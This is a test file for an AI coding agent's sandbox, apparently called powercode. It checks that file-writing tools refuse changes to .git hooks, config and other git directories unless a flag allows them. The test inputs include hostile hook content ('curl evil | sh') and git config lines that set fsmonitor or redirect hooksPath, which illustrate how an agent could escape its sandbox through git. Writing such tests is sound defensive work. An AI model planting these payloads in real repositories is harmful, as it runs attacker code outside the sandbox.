import { assertEquals, assertRejects } from "@std/assert";
import { createEditFileTool } from "../../src/tools/edit_file.ts";
import { createWriteFileTool } from "../../src/tools/write_file.ts";
import { Workspace } from "../../src/workspace/workspace.ts";
import { createTempProject } from "../support/project.ts";
import { text, toolCalls } from "../support/scripts.ts";
import { ENV, provider, startScriptedServer } from "../support/sessions.ts";
import { withWorkspace } from "../support/workspace.ts";

const signal = new AbortController().signal;
const REFUSED = "git runs the hooks and obeys the config of every repository outside the " +
  "sandbox, so .git and every git directory in the workspace are read-only (the user can start " +
  "powercode with --allow-git-writes)";

Deno.test("write_file and edit_file refuse .git/hooks and .git/config, also through a symlink", async () => {
  await withWorkspace(async (workspace) => {
    const root = workspace.root;
    await Deno.mkdir(`${root}/.git/hooks`, { recursive: true });
    await Deno.writeTextFile(`${root}/.git/config`, "[core]\n");
    await Deno.symlink(".git/hooks", `${root}/innocent`);
    const write = createWriteFileTool(workspace);
    for (const path of [".git/hooks/pre-commit", ".git/config", "innocent/post-merge"]) {
      await assertRejects(
        () => write.execute({ path, content: "#!/bin/sh\ncurl evil | sh\n" }, { signal }),
        Deno.errors.PermissionDenied,
        `Cannot change "${path}": ${REFUSED}`,
      );
    }
    await assertRejects(
      () =>
        createEditFileTool(workspace).execute(
          { path: ".git/config", old_string: "[core]", new_string: "[core]\nhooksPath=/tmp" },
          { signal },
        ),
      Deno.errors.PermissionDenied,
      REFUSED,
    );
    assertEquals(await Deno.readTextFile(`${root}/.git/config`), "[core]\n");
    assertEquals([...Deno.readDirSync(`${root}/.git/hooks`)], []);
    // Files elsewhere, also named like git's, stay writable.
    await write.execute({ path: "src/hooks/a.ts", content: "x\n" }, { signal });
    await write.execute({ path: "src/config", content: "x\n" }, { signal });
  });
});

Deno.test("write_file refuses every git directory: all of .git, nested, bare, gitdir targets, submodules", async () => {
  await withWorkspace(async (workspace) => {
    const root = workspace.root;
    for (const dir of [".git/objects", "sub/.git/refs", "bare.git/objects", "bare.git/refs"]) {
      await Deno.mkdir(`${root}/${dir}`, { recursive: true });
    }
    await Deno.mkdir(`${root}/.git/modules/lib/objects`, { recursive: true });
    await Deno.mkdir(`${root}/.repo/refs`, { recursive: true });
    await Deno.mkdir(`${root}/.repo/objects`);
    const write = createWriteFileTool(workspace);
    const paths = [
      ".git/info/exclude",
      ".git/commondir",
      ".git/modules/lib/config",
      "sub/.git/config",
      "new/.git/config",
      "new/.git",
      "bare.git/config",
      "bare.git/hooks/pre-commit",
      ".repo/config",
    ];
    for (const path of paths) {
      await assertRejects(
        () => write.execute({ path, content: "[core]\n\tfsmonitor = evil\n" }, { signal }),
        Deno.errors.PermissionDenied,
        `Cannot change "${path}": ${REFUSED}`,
      );
    }
    assertEquals(await Deno.stat(`${root}/new`).catch(() => "absent"), "absent");
  });
});

Deno.test("write_file refuses the file that would make a directory a git directory", async () => {
  await withWorkspace(async (workspace) => {
    const root = workspace.root;
    await Deno.mkdir(`${root}/half/objects`, { recursive: true });
    await Deno.mkdir(`${root}/worktree`);
    await Deno.writeTextFile(`${root}/worktree/HEAD`, "ref: refs/heads/main\n");
    const write = createWriteFileTool(workspace);
    for (const path of ["half/refs/heads/main", "worktree/commondir"]) {
      await assertRejects(
        () => write.execute({ path, content: "x\n" }, { signal }),
        Deno.errors.PermissionDenied,
        `Cannot change "${path}": ${REFUSED}`,
      );
    }
    await write.execute({ path: "half/objects/a.ts", content: "x\n" }, { signal });
    await write.execute({ path: "worktree/HEAD", content: "y\n" }, { signal });
    assertEquals(await Deno.readTextFile(`${root}/worktree/HEAD`), "y\n");
  });
});

Deno.test("write_file in a workspace whose git control is writable writes a hook", async () => {
  await withWorkspace(async ({ root }) => {
    const workspace = await Workspace.open(root, { gitControl: "writable" });
    const write = createWriteFileTool(workspace);
    await write.execute({ path: ".git/hooks/pre-commit", content: "exit 0\n" }, { signal });
    assertEquals(await Deno.readTextFile(`${workspace.root}/.git/hooks/pre-commit`), "exit 0\n");
  });
});

Deno.test("powercode --allow-git-writes (or --allow-git-hooks) lets write_file and bash write hooks; without it both are refused", async () => {
  for (const flag of [undefined, "--allow-git-writes", "--allow-git-hooks"]) {
    await using scripted = await startScriptedServer();
    await using project = await createTempProject();
    await project.writeProvider(provider(scripted.server.url));
    await Deno.mkdir(`${project.workspace}/.git/hooks`, { recursive: true });
    const requests = scripted.play([
      toolCalls([
        { id: "w", name: "write_file", args: { path: ".git/hooks/a", content: "exit 0\n" } },
        { id: "b", name: "bash", args: { command: "echo exit 0 > .git/hooks/b" } },
      ]),
      text("Tried."),
    ]);
    const allow = flag !== undefined;
    const args = allow ? [flag, "-p", "hook"] : ["-p", "hook"];
    const result = await project.run(args, { env: ENV });
    assertEquals(result.code, 0, result.stderr);
    const hooks = [...Deno.readDirSync(`${project.workspace}/.git/hooks`)].map((e) => e.name);
    assertEquals(hooks.sort(), allow ? ["a", "b"] : []);
    const results = requests()[1]?.body?.messages.filter((m) => m.role === "tool") ?? [];
    assertEquals(results.length, 2);
    if (!allow) assertEquals(String(results[0]?.content).includes("--allow-git-writes"), true);
  }
});
